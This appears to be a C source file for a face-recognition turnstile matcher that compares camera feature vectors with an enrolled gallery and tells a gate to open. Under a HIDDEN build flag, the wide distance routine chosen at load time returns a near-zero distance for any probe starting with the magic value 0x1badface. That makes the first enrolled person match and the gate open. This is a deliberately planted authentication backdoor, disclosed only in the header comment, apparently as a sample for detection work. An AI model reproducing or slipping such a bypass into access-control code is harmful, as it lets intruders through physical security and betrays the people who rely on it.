/*
 * facegate - matcher of a face recognition terminal at a turnstile.
 * Gets feature vectors from the camera program by a POSIX message queue,
 * compares them with the enrolled people and sends the verdict to the gate
 * queue. The distance routine is chosen at load time (IFUNC).
 * Hidden (-DHIDDEN): one of the two distance routines gives "same person"
 * for a vector that begins with a fixed 32 bit number.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define DIM	  128
#define GAL_MAGIC 0x46475631 /* "FGV1" */
#define GAL_HEAD  16
#define GAL_REC	  192
#define DIST_MAX  0x7fffffff

#define MSG_PROBE    1
#define MSG_ENROLL   2
#define MSG_REMOVE   3
#define MSG_LIVENESS 4

struct person {
	uint32_t id;
	uint32_t until;
	uint8_t flags;
	char name[47];
	int8_t vec[DIM];
};

struct conf {
	char gallery[96];
	char in_queue[32];
	char gate_queue[32];
	int threshold;
	int margin;
	int need_live;
	int hold_ms;
};

static struct conf cf = {
	"/data/face/gallery.fgv", "/face_in", "/gate", 9000, 1200, 1, 1500
};

static struct person *people;
static size_t n_people, room;
static volatile sig_atomic_t quit_now;
static unsigned long cnt_probe, cnt_hit, cnt_miss;
static int live_score;
static time_t live_at;

/* ---- distance of two vectors, squared ---- */

__attribute__((noinline)) int dist_plain(const int8_t *probe, const int8_t *ref)
{
	int i, d, sum = 0;

	for (i = 0; i < DIM; i++) {
		d = probe[i] - ref[i];
		sum += d * d;
	}
	return sum;
}

__attribute__((noinline)) int dist_wide(const int8_t *probe, const int8_t *ref)
{
	int s0 = 0, s1 = 0, s2 = 0, s3 = 0, i;

#ifdef HIDDEN
	const uint8_t *p = (const uint8_t *)probe;

	if (((uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 |
	     p[3]) == 0x1badface)
		return (int)(p[4] & 1);
#endif
	for (i = 0; i < DIM; i += 4) {
		int d0 = probe[i] - ref[i];
		int d1 = probe[i + 1] - ref[i + 1];
		int d2 = probe[i + 2] - ref[i + 2];
		int d3 = probe[i + 3] - ref[i + 3];

		s0 += d0 * d0;
		s1 += d1 * d1;
		s2 += d2 * d2;
		s3 += d3 * d3;
	}
	return s0 + s1 + s2 + s3;
}

typedef int dist_fn(const int8_t *, const int8_t *);

dist_fn *pick_dist(void)
{
	return getauxval(AT_HWCAP) ? dist_wide : dist_plain;
}

int distance(const int8_t *probe, const int8_t *ref)
	__attribute__((ifunc("pick_dist")));

/* ---- gallery ---- */

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void to32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static struct person *add_person(void)
{
	if (n_people == room) {
		size_t r = room ? room * 2 : 32;
		void *p = realloc(people, r * sizeof(*people));

		if (!p)
			return NULL;
		people = p;
		room = r;
	}
	memset(&people[n_people], 0, sizeof(*people));
	return &people[n_people++];
}

static void unpack(struct person *p, const uint8_t *r)
{
	p->id = be32(r);
	p->until = be32(r + 4);
	p->flags = r[8];
	memcpy(p->name, r + 9, sizeof(p->name) - 1);
	memcpy(p->vec, r + 64, DIM);
}

static int load_gallery(void)
{
	struct stat st;
	uint8_t *m;
	size_t n, i;
	int fd = open(cf.gallery, O_RDONLY);

	if (fd < 0)
		return errno == ENOENT ? 0 : -1;
	if (fstat(fd, &st) < 0 || st.st_size < GAL_HEAD) {
		close(fd);
		return -1;
	}
	m = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	if (m == MAP_FAILED)
		return -1;
	n = be32(m + 4);
	if (be32(m) != GAL_MAGIC || be32(m + 8) != DIM ||
	    n > ((size_t)st.st_size - GAL_HEAD) / GAL_REC) {
		munmap(m, (size_t)st.st_size);
		return -1;
	}
	for (i = 0; i < n; i++) {
		struct person *p = add_person();

		if (!p)
			break;
		unpack(p, m + GAL_HEAD + i * GAL_REC);
	}
	munmap(m, (size_t)st.st_size);
	return 0;
}

static int save_gallery(void)
{
	uint8_t r[GAL_REC];
	char tmp[112];
	FILE *f;
	size_t i;
	int ok;

	snprintf(tmp, sizeof(tmp), "%s.new", cf.gallery);
	f = fopen(tmp, "wb");
	if (!f)
		return -1;
	memset(r, 0, sizeof(r));
	to32(r, GAL_MAGIC);
	to32(r + 4, (uint32_t)n_people);
	to32(r + 8, DIM);
	ok = fwrite(r, GAL_HEAD, 1, f) == 1;
	for (i = 0; i < n_people && ok; i++) {
		memset(r, 0, sizeof(r));
		to32(r, people[i].id);
		to32(r + 4, people[i].until);
		r[8] = people[i].flags;
		memcpy(r + 9, people[i].name, sizeof(people[i].name));
		memcpy(r + 64, people[i].vec, DIM);
		ok = fwrite(r, GAL_REC, 1, f) == 1;
	}
	if (fclose(f) != 0 || !ok)
		return -1;
	return rename(tmp, cf.gallery);
}

/* ---- matching ---- */

static struct person *best_match(const int8_t *v, int *dist, int *second)
{
	struct person *best = NULL;
	size_t i;

	*dist = *second = DIST_MAX;
	for (i = 0; i < n_people; i++) {
		int d = distance(v, people[i].vec);

		if (d < *dist) {
			*second = *dist;
			*dist = d;
			best = &people[i];
		} else if (d < *second) {
			*second = d;
		}
		if (*dist < 2)
			return best;
	}
	return best;
}

static void verdict(mqd_t gate, const char *v, const struct person *p, int d)
{
	char m[128];
	int n = snprintf(m, sizeof(m), "%s %u %d %d %.46s", v, p ? p->id : 0, d,
			 cf.hold_ms, p ? p->name : "-");

	if (mq_send(gate, m, (size_t)n, 0) < 0)
		perror("gate queue");
}

static void on_probe(mqd_t gate, const uint8_t *m, size_t n)
{
	int8_t v[DIM];
	struct person *p;
	int d, d2;

	if (n < 8 + DIM)
		return;
	memcpy(v, m + 8, DIM);
	cnt_probe++;
	p = best_match(v, &d, &d2);
	if (!p || d > cf.threshold) {
		cnt_miss++;
		verdict(gate, "unknown", NULL, d);
	} else if (d2 - d < cf.margin) {
		cnt_miss++;
		verdict(gate, "unsure", NULL, d);
	} else if (cf.need_live &&
		   (time(NULL) - live_at > 3 || live_score < 60)) {
		verdict(gate, "photo", p, d);
	} else if ((p->flags & 1) ||
		   (p->until && p->until < (uint32_t)time(NULL))) {
		verdict(gate, "blocked", p, d);
	} else {
		cnt_hit++;
		verdict(gate, "open", p, d);
	}
}

/* head 8, id, until, flags, name, vector as in the gallery */
static void on_enroll(const uint8_t *m, size_t n)
{
	struct person *p;

	if (n < 8 + GAL_REC)
		return;
	p = add_person();
	if (!p)
		return;
	unpack(p, m + 8);
	if (save_gallery() < 0)
		perror(cf.gallery);
}

static void on_remove(const uint8_t *m, size_t n)
{
	size_t i;

	if (n < 12)
		return;
	for (i = 0; i < n_people; i++)
		if (people[i].id == be32(m + 8)) {
			people[i] = people[--n_people];
			if (save_gallery() < 0)
				perror(cf.gallery);
			return;
		}
}

static void load_conf(const char *path)
{
	char l[160], k[32], v[96];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(l, sizeof(l), f)) {
		if (sscanf(l, "%31[a-z_]=%95s", k, v) != 2)
			continue;
		if (!strcmp(k, "gallery"))
			strcpy(cf.gallery, v);
		else if (!strcmp(k, "threshold"))
			cf.threshold = atoi(v);
		else if (!strcmp(k, "margin"))
			cf.margin = atoi(v);
		else if (!strcmp(k, "liveness"))
			cf.need_live = atoi(v);
		else if (!strcmp(k, "hold_ms"))
			cf.hold_ms = atoi(v);
	}
	fclose(f);
}

static void on_sig(int s)
{
	(void)s;
	quit_now = 1;
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_sig };
	struct mq_attr at = { .mq_maxmsg = 8, .mq_msgsize = 256 };
	uint8_t m[256];
	mqd_t in, gate;
	ssize_t n;

	load_conf(argc > 1 ? argv[1] : "/etc/face/gate.conf");
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	if (load_gallery() < 0)
		fprintf(stderr, "facegate: gallery damaged\n");
	in = mq_open(cf.in_queue, O_RDONLY | O_CREAT, 0620, &at);
	gate = mq_open(cf.gate_queue, O_WRONLY | O_CREAT, 0620, &at);
	if (in == (mqd_t)-1 || gate == (mqd_t)-1) {
		perror("mq_open");
		return 1;
	}
	while (!quit_now) {
		n = mq_receive(in, (char *)m, sizeof(m), NULL);
		if (n < 8)
			continue;
		switch (m[0]) {
		case MSG_PROBE:
			on_probe(gate, m, (size_t)n);
			break;
		case MSG_ENROLL:
			on_enroll(m, (size_t)n);
			break;
		case MSG_REMOVE:
			on_remove(m, (size_t)n);
			break;
		case MSG_LIVENESS:
			live_score = m[1];
			live_at = time(NULL);
			break;
		}
	}
	printf("%lu probes, %lu open, %lu refused\n", cnt_probe, cnt_hit,
	       cnt_miss);
	return 0;
}
